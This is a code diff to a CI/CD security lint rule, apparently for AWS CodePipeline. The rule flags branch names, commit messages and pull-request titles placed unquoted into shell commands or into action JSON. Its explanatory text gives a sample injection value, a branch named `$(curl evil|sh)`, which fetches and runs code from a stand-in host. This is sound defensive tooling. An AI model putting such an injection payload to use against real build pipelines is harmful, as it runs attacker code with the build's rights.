@@ -11,23 +11,29 @@ export default defineRule({
   controls: ['owasp-cicd:CICD-SEC-4', 'nist-800-53:SI-10'],
   peers: [],
   docs: {
-    title: 'Text of outsiders put into a command line',
-    what: 'Finds commit messages, branch names and other texts that committers choose where a shell reads them: put into the commands of an action, evaluated again, or unquoted in a buildspec.',
-    why: 'A branch called `$(curl evil|sh)` is a branch. Whoever may open a pull request or push anywhere then runs commands with the rights of the build.',
-    fix: 'Hand the text over as an environment variable, quote it where it is used (`"$BRANCH"`), and never evaluate it.',
-    references: ['https://docs.aws.amazon.com/codepipeline/latest/userguide/reference-variables.html'],
+    title: 'Text of outsiders put into a command line or JSON',
+    what: 'Finds commit messages, branch names and other texts that committers choose where they are read as code: put into the commands of an action, evaluated again, unquoted in a buildspec, or, for messages and titles, put into the JSON of an action.',
+    why: 'A branch called `$(curl evil|sh)` is a branch. Whoever may open a pull request or push anywhere then runs commands with the rights of the build. A message with a quotation mark or a second line breaks the JSON, and the action fails; a crafted one adds values of its own.',
+    fix: 'Hand the text over as an environment variable, quote it where it is used (`"$BRANCH"`), and never evaluate it. Hand over the commit id rather than its message, and read the message in the build.',
+    references: [
+      'https://docs.aws.amazon.com/codepipeline/latest/userguide/reference-variables.html',
+      'https://github.com/aws/aws-cdk/issues/8458',
+    ],
   },
   messages: {
     inserted: (d: { action: string; variable: string }) =>
       `${d.action} puts ${d.variable} into its commands, before any shell can quote it`,
+    json: (d: { action: string; variable: string; key: string }) =>
+      `${d.action} puts ${d.variable} into the JSON of ${d.key}, which a quotation mark or line break in it breaks`,
     evaluated: (d: { by: string; variable: string }) => `${d.by} evaluates $${d.variable}, which outsiders choose`,
     unquoted: (d: { by: string; variable: string }) => `${d.by} uses $${d.variable} unquoted, which outsiders choose`,
   },
   supersedes: [],
   check(subject, ctx) {
     if (subject.kind === 'variable-use') {
-      if (subject.outside && subject.key === 'Commands')
-        ctx.fail('inserted', subject.at, { action: subject.action.name, variable: subject.variable });
+      const { action, at, key, outside, variable, withinJson } = subject;
+      if (outside && key === 'Commands') ctx.fail('inserted', at, { action: action.name, variable });
+      if (withinJson && FREE.has(variable)) ctx.fail('json', at, { action: action.name, variable, key }, { severity: 'medium' });
       return;
     }
     const { lines, outside, at, by } = subject;
@@ -38,6 +44,9 @@ export default defineRule({
     }
   },
 });
+
+/** Texts of any characters; names of branches and people rarely hold a quotation mark. */
+const FREE = new Set(['CommitMessage', 'PullRequestTitle']);
 
 const reference = (variable: string): string => `\\$(?:${variable}\\b|\\{${variable}[^}]*\\})`;
 
